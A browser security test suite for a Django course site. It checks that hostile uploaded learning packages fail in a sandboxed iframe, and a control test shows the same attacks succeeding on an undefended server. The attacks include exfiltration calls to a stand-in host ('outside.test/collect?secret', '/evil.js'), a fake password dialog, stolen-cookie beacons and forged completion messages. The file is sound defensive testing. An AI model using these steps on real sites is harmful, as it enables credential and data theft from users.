"""Hostile packages in a real browser: each attack fails, and a control shows that the test would see a success."""

import json
import re
import time
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import TimeoutError, expect

from courses.models import PackageClaim
from tests.browser.foreign.server import PackageServer
from tests.factories.packages import create_package, html5

pytestmark = pytest.mark.django_db(transaction=True)
ATTACKS = (Path(__file__).parent / "attacks.js").read_text()
PAGE = "/en/courses/first-steps/U1/package/quiz/"
# A page of the site may do all of this; what even it may not do in this browser is seen in another way.
SEEN_ELSEWHERE = {
    "send a beacon to the site",
    "move the page around it",
    "send a form outside",
    "stop her with a dialog",
}
NEEDS_A_HAND = {"fill the screen"}


@pytest.fixture
def outside(page):
    """Another site, with everything that is asked of it."""
    asked = []

    def answer(route):
        asked.append(urlsplit(route.request.url).path)
        if route.request.url.endswith(".svg"):
            route.fulfill(content_type="image/svg+xml", body="<svg xmlns='http://www.w3.org/2000/svg'/>")
        else:
            route.fulfill(content_type="text/javascript", body="1", headers={"Access-Control-Allow-Origin": "*"})

    page.route("http://outside.test/**", answer)
    return asked


@pytest.fixture
def watched(page, live_server):
    """What the browser asked the site for after the page was there, and the dialogs that came up."""
    seen = {"requests": [], "dialogs": []}
    page.on("request", lambda request: seen["requests"].append((request.method, request.url)))
    page.on("dialog", lambda dialog: (seen["dialogs"].append(dialog.message), dialog.dismiss()))
    page.context.grant_permissions(["geolocation", "camera"])
    page.context.set_geolocation({"latitude": 46, "longitude": 14})
    page.context.add_cookies([{"name": "marker", "value": "site", "url": live_server.url}])
    page.goto("/en/")
    page.evaluate("localStorage.setItem('marker', 'site')")
    return seen


def hostile(site: str) -> dict[str, bytes]:
    script = f'<script src="attacks.js" data-site="{site}"></script>'
    return html5(script, **{"attacks.js": ATTACKS, "worker.js": "self.postMessage?.(1)"})


def results(frame) -> dict[str, str]:
    frame.locator("pre").wait_for(timeout=60_000)
    return json.loads(frame.locator("pre").text_content())


def test_every_attack_of_a_package_fails(page, unit, packages, live_server, outside, watched):
    leave_a_mark(page, unit)
    packages.asked.clear()
    create_package(unit, hostile(live_server.url))
    page.goto(PAGE)
    watched["requests"].clear()
    got = results(page.frame_locator("iframe"))
    assert {name: said for name, said in got.items() if not said.startswith("failed")} == {}
    assert set(got) == set(re.findall(r'^  "([^"]+)": ', ATTACKS, re.MULTILINE))
    page.wait_for_timeout(4000)
    assert urlsplit(page.url).path == PAGE
    assert len(page.context.pages) == 1
    assert (outside, watched["dialogs"]) == ([], [])
    to_the_site = [url for _method, url in watched["requests"] if url.startswith(live_server.url)]
    assert [url for url in to_the_site if not url.endswith(("favicon.svg", "/claim/"))] == []
    assert packages.asked != []
    assert [headers for _method, _path, headers in packages.asked if "HTTP_COOKIE" in headers] == []
    assert [headers for _method, _path, headers in packages.asked if "HTTP_REFERER" in headers] == []
    expect(page.locator("[data-claim-state]")).to_have_text("Opened, no status received")


def leave_a_mark(page, unit):
    """Another package writes into its own storage, where it has one."""
    mark = (
        "<script>try { localStorage.setItem('marker', 'package'); } catch {} document.title = 'marked'</script><i>x</i>"
    )
    create_package(unit, html5(mark), key="other")
    page.goto("/en/courses/first-steps/U1/package/other/")
    page.frame_locator("iframe").locator("i").wait_for()


@pytest.fixture
def defenceless():
    """A site that shows the same pages from its own host, without sandbox and without policy."""
    server = PackageServer(answer_without_defence)
    yield server
    server.stop()


def answer_without_defence(environ, start):
    site = f"http://{environ['HTTP_HOST']}"
    around = '<body><input name="csrfmiddlewaretoken" value="t"><iframe src="index.html" allow="camera; geolocation">'
    picture = b"<svg xmlns='http://www.w3.org/2000/svg'/>"
    content = {"around.html": around.encode(), "eu.svg": picture, **hostile(site)}
    name = environ["PATH_INFO"].rpartition("/")[2]
    kinds = {"js": "text/javascript", "svg": "image/svg+xml"}
    start("200 OK", [("Content-Type", kinds.get(name.rpartition(".")[2], "text/html"))])
    return [content.get(name, b"<p>x")]


def test_the_same_attacks_succeed_where_nothing_hinders_them(page, defenceless, outside, watched):
    """The control: without it, nobody could tell a defence from an attack that never worked."""
    site = f"http://localhost:{defenceless.port}"
    page.goto(f"{site}/empty.html")
    page.evaluate("localStorage.setItem('marker', 'site')")
    page.goto(f"{site}/around.html")
    got = results(page.frame_locator("iframe"))
    failed = {name for name, said in got.items() if not said.startswith("got")}
    assert failed - SEEN_ELSEWHERE - NEEDS_A_HAND == set(), got
    assert set(outside) >= {"/fetch", "/evil.js", "/pixel.svg", "/form"}
    assert watched["dialogs"] == ["Your password, please"]
    page.wait_for_url("**/en/legal/?stolen")
    assert "/stolen-beacon" in {path for _method, path, _headers in defenceless.asked}
    assert [
        headers for _method, _path, headers in defenceless.asked if "marker" in headers.get("HTTP_COOKIE", "")
    ] != []


def test_login_page_cannot_be_framed(page, unit, packages, live_server):
    login = f'<iframe src="{live_server.url}/en/accounts/login/"></iframe><i>x</i>'
    create_package(unit, html5(login))
    page.goto(PAGE)
    page.frame_locator("iframe").locator("i").wait_for()
    page.wait_for_load_state()
    assert [frame for frame in page.frames if "/accounts/login/" in frame.url] == []
    assert page.frame_locator("iframe").frame_locator("iframe").locator("input").count() == 0


@pytest.mark.parametrize("target", ["/en/accounts/login/", "http://outside.test/collect?secret"])
def test_package_cannot_lead_its_frame_elsewhere(page, unit, packages, live_server, outside, target):
    target = target if target.startswith("http") else f"{live_server.url}{target}"
    create_package(unit, html5(f"<i>x</i><script>setTimeout(() => {{ location.href = '{target}' }}, 100)</script>"))
    page.goto(PAGE)
    page.wait_for_function("() => true")
    page.wait_for_timeout(1000)
    assert outside == []
    assert [
        frame.url for frame in page.frames if frame.url.startswith((live_server.url + "/en/acc", "http://outside"))
    ] == []
    expect(page.locator("text=I have done this")).to_be_visible()


TALK = """
const words = {words};
setTimeout(() => {{
  for (const word of words) top.postMessage(word, "*");
  document.body.append(Object.assign(document.createElement("i"), {{ textContent: "said" }}));
}}, 300);
"""


def say(page, unit, words: str):
    """The claims that reach the server when a package says ``words``, a JavaScript list."""
    create_package(unit, html5(f"<script>{TALK.format(words=words)}</script>"))
    posted = []
    page.on("request", lambda request: posted.append(request.post_data) if "/claim/" in request.url else None)
    page.goto(PAGE)
    page.frame_locator("iframe").locator("i").wait_for(timeout=30_000)
    page.wait_for_timeout(800)
    return posted


WRONG_WORDS = [
    {"about": "package", "scaled": 9.99},
    {"about": "package", "scaled": -1, "state": "completed"},
    {"about": "package", "raw": 1e9},
    {"about": "package", "state": "graduated"},
    {"about": "package", "state": "opened"},
    {"about": "package", "state": "completed", "learner": 7},
    {"about": "package", "state": "completed", "enrolment": 1},
    {"about": "package", "state": "completed", "opening": "x"},
    {"about": "package", "state": ["completed"]},
    {"about": "package", "seconds": "12"},
    {"about": "package", "suspended": {"a": 1}},
    {"about": "package", "location": "x" * 1001},
    {"about": "other", "state": "completed"},
    {"state": "completed"},
    {"about": "package"},
    "completed",
    [1, 2],
    None,
    7,
]


def test_words_of_a_wrong_shape_or_with_scores_that_cannot_be_go_no_further(page, unit, packages):
    words = json.dumps(WRONG_WORDS)[:-1] + ", {about: 'package', scaled: NaN}, {about: 'package', raw: Infinity}]"
    assert say(page, unit, words) == []
    assert PackageClaim.objects.unscoped("test").get().state == "opened"


def test_right_word_goes_through_so_that_the_others_could_have(page, unit, packages):
    posted = say(page, unit, json.dumps([{"about": "package", "state": "completed", "scaled": 1}]))
    expect(page.locator("[data-claim-state]")).to_have_text("Completed · 100 % by its own count")
    assert ["state=completed" in body for body in posted] == [True]


def test_ten_thousand_words_are_a_handful_for_the_server(page, unit, packages):
    words = "Array.from({length: 10000}, (_, n) => ({about: 'package', state: 'incomplete', location: String(n)}))"
    began = time.monotonic()
    posted = say(page, unit, words)
    while PackageClaim.objects.unscoped("test").get().location != "9999":
        assert time.monotonic() < began + 60, "the last word does not arrive"
        page.wait_for_timeout(100)
    assert 1 <= len(posted) <= 2 + (time.monotonic() - began) / 2
    page.click("text=Back to the unit")
    page.wait_for_url("**/U1/")


def test_words_of_another_window_are_not_heard(page, unit, packages):
    create_package(unit, html5())
    posted = []
    page.on("request", lambda request: posted.append(request.url) if "/claim/" in request.url else None)
    page.goto(PAGE)
    page.frame_locator("iframe").locator("p").wait_for()
    page.evaluate("window.postMessage({about: 'package', state: 'completed'}, '*')")
    page.wait_for_timeout(500)
    assert posted == []


def hangs(element) -> bool:
    try:
        element.evaluate("() => 0", timeout=1_000)
    except TimeoutError:
        return True
    return False


def test_package_that_never_stops_can_be_closed_and_the_page_stays_usable(page, unit, packages):
    create_package(unit, html5("<i>x</i>"))
    page.goto(PAGE)
    inside = page.frame_locator("iframe").locator("i")
    inside.evaluate("() => { setTimeout(() => { for (;;); }, 50) }")
    while not hangs(inside):
        page.wait_for_timeout(50)
    page.click("text=Close the activity")
    expect(page.locator("iframe")).to_have_count(0)
    page.click("text=I have done this")
    page.wait_for_url("**/U2/")


def test_library_of_one_package_is_not_that_of_another(unit, packages):
    """Same name, higher version: each package has its own files only."""
    one = create_package(unit, html5(**{"H5P.Question-1.5/q.js": "1"}), key="one")
    other = create_package(
        unit, html5(**{"H5P.Question-1.99/q.js": "evil", "H5P.Question-1.5/q.js": "evil"}), key="other"
    )
    assert one.files.get(path="H5P.Question-1.5/q.js").file != other.files.get(path="H5P.Question-1.5/q.js").file
